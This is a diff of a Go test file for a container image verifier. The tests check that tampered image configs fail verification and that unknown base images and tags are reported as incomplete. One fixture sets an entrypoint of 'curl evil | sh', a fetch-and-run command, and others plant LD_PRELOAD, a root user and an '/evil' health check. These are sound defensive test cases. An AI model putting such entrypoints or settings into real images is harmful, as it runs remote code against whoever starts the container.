@@ -226,7 +226,7 @@ func TestALabelInheritedOrNotIsComparedInAnySpelling(t *testing.T) {
 		wants(t, verifyOne(t, "oci:"+s.write(), w.options()), Failed, "trace.claims", Fail, "commit-differs")
 	}
 	s := w.image(copySteps("true")...)
-	s.config.Config = v1.Config{Labels: map[string]string{sourceKey: worldSource, "org.opencontainers.image.revision": strings.ToUpper(id[:9])}}
+	s.config.Config.Labels = map[string]string{sourceKey: worldSource, "org.opencontainers.image.revision": strings.ToUpper(id[:9])}
 	s.sealConfig()
 	wants(t, verifyOne(t, "oci:"+s.write(), w.options()), Verified, "trace.claims", Pass, "")
 }
@@ -276,5 +276,64 @@ func TestWhatBuildersNeverWriteIntoALayerIsSeen(t *testing.T) {
 			s := w.image(step{"COPY a /a # buildkit", []entry{e}}, step{`CMD ["/a"]`, nil})
 			wants(t, verifyOne(t, "oci:"+s.write(), w.options()), Failed, "layer.content", Fail, "format-differs")
 		})
+	}
+}
+
+func TestTheConfigIsWhatTheDirectivesGive(t *testing.T) {
+	w := newWorld(t)
+	w.release(copied)
+	sound := v1.Config{Cmd: []string{"/a"}, Env: []string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"}, WorkingDir: "/"}
+	tests := []struct {
+		name   string
+		change func(*v1.Config)
+		status Status
+		reason string
+	}{
+		{"as the builder writes it", func(*v1.Config) {}, Pass, ""},
+		{"defaults left out", func(c *v1.Config) { c.Env, c.WorkingDir = nil, "" }, Pass, ""},
+		{"another command", func(c *v1.Config) { c.Cmd = []string{"/b"} }, Fail, "config-differs"},
+		{"an entrypoint", func(c *v1.Config) { c.Entrypoint = []string{"sh", "-c", "curl evil | sh"} }, Fail, "config-differs"},
+		{"a preloaded library", func(c *v1.Config) { c.Env = append(c.Env, "LD_PRELOAD=/a") }, Fail, "config-differs"},
+		{"another path", func(c *v1.Config) { c.Env = []string{"PATH=/tmp"} }, Fail, "config-differs"},
+		{"a path of many", func(c *v1.Config) { c.Env = append(c.Env, "PATH=/tmp") }, Fail, "config-differs"},
+		{"a user", func(c *v1.Config) { c.User = "0" }, Fail, "config-differs"},
+		{"a directory", func(c *v1.Config) { c.WorkingDir = "/tmp" }, Fail, "config-differs"},
+		{"a port", func(c *v1.Config) { c.ExposedPorts = map[string]struct{}{"22/tcp": {}} }, Fail, "config-differs"},
+		{"a volume", func(c *v1.Config) { c.Volumes = map[string]struct{}{"/": {}} }, Fail, "config-differs"},
+		{"a signal", func(c *v1.Config) { c.StopSignal = "SIGKILL" }, Fail, "config-differs"},
+		{"a health check", func(c *v1.Config) { c.Healthcheck = &v1.HealthConfig{Test: []string{"CMD", "/evil"}} }, Fail, "config-differs"},
+		{"a trigger", func(c *v1.Config) { c.OnBuild = []string{"RUN evil"} }, Fail, "config-differs"},
+		{"a shell", func(c *v1.Config) { c.Shell = []string{"/evil"} }, Fail, "config-differs"},
+		{"a label", func(c *v1.Config) { c.Labels = map[string]string{"a": "b"} }, Warn, "label-added"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			s := w.image(copySteps("true")...)
+			s.config.Config = sound
+			tt.change(&s.config.Config)
+			s.sealConfig()
+			verdict := map[Status]Verdict{Pass: Verified, Warn: Verified, Fail: Failed}[tt.status]
+			wants(t, verifyOne(t, "oci:"+s.write(), w.options()), verdict, "history.config", tt.status, tt.reason)
+		})
+	}
+}
+
+func TestTheConfigOfAnImageOnABaseIsNotKnown(t *testing.T) {
+	w := newWorld(t)
+	w.release(map[string]string{"Dockerfile": "FROM debian:12\nCMD [\"/a\"]\n"})
+	s := w.image(step{"ADD rootfs.tar.xz / # buildkit", []entry{file("b", "base")}}, step{`CMD ["/a"]`, nil})
+	wants(t, verifyOne(t, "oci:"+s.write(), w.options()), Incomplete, "history.config", Unknown, "base-unknown")
+}
+
+func TestATagThatTheLibraryNeverHadIsNotTakenFromTheImage(t *testing.T) {
+	w := newWorld(t)
+	id := w.release(copied)
+	s := w.image(copySteps("true")...)
+	s.manifest.Annotations = map[string]string{sourceKey: worldSource + "#" + id + ":d"}
+	ref := "oci:" + s.write()
+	for as, reason := range map[string]string{"app:9": "tag-not-in-library", "other:1": "not-in-library"} {
+		o := w.options()
+		o.As = as
+		wants(t, verifyOne(t, ref, o), Incomplete, "trace.origin", Unknown, reason)
 	}
 }
